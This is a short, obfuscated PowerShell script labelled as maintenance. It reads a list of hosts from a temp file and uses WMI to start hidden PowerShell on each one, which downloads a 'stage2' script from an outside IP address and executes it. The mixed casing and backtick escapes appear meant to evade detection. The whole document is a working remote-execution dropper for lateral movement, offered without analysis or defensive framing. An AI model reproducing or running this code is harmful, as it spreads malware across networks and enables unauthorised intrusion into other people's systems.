# mAiNtEnAnCe 7438 v1
$TaRgEtS = GeT-`contEnt C:\WInDoWs\tEmP\hOsTs.TXt
ForEACH ($t in $Targets) {
  InVo`kE-`wMimEthO`D -CoMputernAME $T -ClasS wIn32_pRocESs -nAmE crEAtE -arguMENtlist "powershell -nop -w hidden -c iex(iwr http://192.0.2.44/stage2.ps1)"
}
